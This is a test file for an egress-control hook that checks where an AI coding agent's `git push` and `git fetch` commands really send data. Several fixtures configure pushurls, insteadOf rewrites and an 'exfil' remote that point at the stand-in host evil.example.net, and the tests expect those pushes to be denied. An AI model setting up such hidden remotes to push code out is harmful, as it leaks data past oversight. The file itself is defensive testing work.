import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";

import { remotesFromConfig } from "../../src/git/remotes";
import { expectAllow, expectDeny, shellInput } from "../support/agents";
import { runHook, tempHome } from "../support/cli";
import { createOrg, makeSnapshot } from "../support/signing";
import { payloadDigest, writeEnrolledState } from "../support/state";

// `git push` / `git fetch` to a remote name: the built hook resolves it in the call's cwd the way
// git does (pushurl, several urls, insteadOf / pushInsteadOf rewrites, the branch's configured
// remote) and checks where the data really goes. Real repositories, real git, the built CLI.

const keys = createOrg("org_demo");
const snapshot = makeSnapshot({ keys, version: 3 });

async function enrolled(): Promise<string> {
  const home = tempHome();
  writeEnrolledState({ home, keys, envelope: snapshot.envelope, lastSeen: { version: 3, digest: await payloadDigest(snapshot.envelope) } });

  return home;
}

function repo(config: [string, string][]): string {
  const dir = mkdtempSync(join(tmpdir(), "egress-git-"));
  execFileSync("git", ["init", "-q", dir]);
  for (const [key, value] of config) execFileSync("git", ["-C", dir, "config", "--add", key, value]);

  return dir;
}

async function decide(home: string, command: string, cwd: string) {
  return runHook({ agent: "claude-code", home, input: shellInput("claude-code", command, cwd) });
}

describe("git remotes resolved like git resolves them", () => {
  it("allows a push and a fetch whose remote is allow-listed", async () => {
    const home = await enrolled();
    const dir = repo([["remote.origin.url", "https://github.com/acme/app.git"]]);
    expectAllow("claude-code", await decide(home, "git push origin main", dir));
    expectAllow("claude-code", await decide(home, "git fetch origin", dir));
  });

  it("checks a push against the pushurl, and a fetch against the url", async () => {
    const home = await enrolled();
    const dir = repo([["remote.origin.url", "https://github.com/acme/app.git"], ["remote.origin.pushurl", "https://evil.example.net/app.git"]]);
    expect(expectDeny("claude-code", await decide(home, "git push origin main", dir))).toMatch(/evil\.example\.net/);
    expectAllow("claude-code", await decide(home, "git fetch origin", dir));
  });

  it("checks every url a push goes to", async () => {
    const home = await enrolled();
    const dir = repo([["remote.origin.url", "https://github.com/acme/app.git"], ["remote.origin.url", "git@evil.example.net:mirror.git"]]);
    expect(expectDeny("claude-code", await decide(home, "git push origin main", dir))).toMatch(/evil\.example\.net/);
  });

  it("applies insteadOf and pushInsteadOf rewrites", async () => {
    const home = await enrolled();
    const rewritten = repo([["remote.origin.url", "https://github.com/acme/app.git"], ["url.https://evil.example.net/.insteadOf", "https://github.com/"]]);
    expect(expectDeny("claude-code", await decide(home, "git push origin main", rewritten))).toMatch(/evil\.example\.net/);
    expect(expectDeny("claude-code", await decide(home, "git pull origin main", rewritten))).toMatch(/evil\.example\.net/);
    const pushOnly = repo([["remote.origin.url", "https://github.com/acme/app.git"], ["url.ssh://evil.example.net/.pushInsteadOf", "https://github.com/"]]);
    expect(expectDeny("claude-code", await decide(home, "git push origin main", pushOnly))).toMatch(/evil\.example\.net/);
    expectAllow("claude-code", await decide(home, "git fetch origin", pushOnly));
  });

  it("checks a bare push against the remote the branch configuration picks", async () => {
    const home = await enrolled();
    const dir = repo([["remote.origin.url", "https://github.com/acme/app.git"], ["remote.exfil.url", "https://evil.example.net/x.git"], ["remote.pushDefault", "exfil"]]);
    expect(expectDeny("claude-code", await decide(home, "git push", dir))).toMatch(/evil\.example\.net/);
    const branch = repo([["remote.origin.url", "https://github.com/acme/app.git"], ["remote.exfil.url", "https://evil.example.net/x.git"], ["branch.main.pushRemote", "exfil"]]);
    expect(expectDeny("claude-code", await decide(home, "git push", branch))).toMatch(/evil\.example\.net/);
    expectAllow("claude-code", await decide(home, "git push origin main", branch));
  });
});

describe("remotesFromConfig", () => {
  it("takes the longest matching rewrite, and never rewrites a pushurl with pushInsteadOf", () => {
    const parsed = remotesFromConfig(
      [
        "remote.origin.url https://github.com/acme/app.git",
        "remote.up.url https://github.com/up/app.git",
        "remote.up.pushurl https://github.com/up/push.git",
        "url.https://a.example/.insteadof https://github.com/",
        "url.https://b.example/.insteadof https://github.com/acme/",
        "url.https://c.example/.pushinsteadof https://github.com/",
        "branch.main.remote origin",
        "branch.dev.remote .",
      ].join("\n"),
    );
    expect(parsed.remotes).toEqual({ origin: "https://b.example/app.git", up: "https://a.example/up/app.git" });
    expect(parsed.pushRemotes).toEqual({ origin: ["https://c.example/acme/app.git"], up: ["https://a.example/up/push.git"] });
    expect(parsed.defaults).toEqual(["origin"]);
  });

  it("resolves remotes where the command runs git: a subdirectory of the same repository, a nested repository, git -C", async () => {
    const home = await enrolled();
    const dir = repo([["remote.origin.url", "https://github.com/acme/app.git"]]);
    mkdirSync(join(dir, "packages", "app"), { recursive: true });
    execFileSync("git", ["init", "-q", join(dir, "vendor")]);
    execFileSync("git", ["-C", join(dir, "vendor"), "config", "remote.origin.url", "https://evil.example.net/vendor.git"]);
    expectAllow("claude-code", await decide(home, "cd packages/app && npm test && git push", dir));
    expectAllow("claude-code", await decide(home, "git -C packages/app push origin main", dir));
    expect(expectDeny("claude-code", await decide(home, "cd vendor && git push origin", dir))).toMatch(/`evil\.example\.net` is not on the allow-list/);
    expect(expectDeny("claude-code", await decide(home, "git -C vendor fetch origin && git push", dir))).toMatch(/evil\.example\.net/);
    // A directory git cannot read remotes in: the destination is unknown
    expect(expectDeny("claude-code", await decide(home, "cd missing && git push origin", dir))).toMatch(/cannot resolve git remote `origin` in `.*\/missing`, where the command runs git/);
  });
});
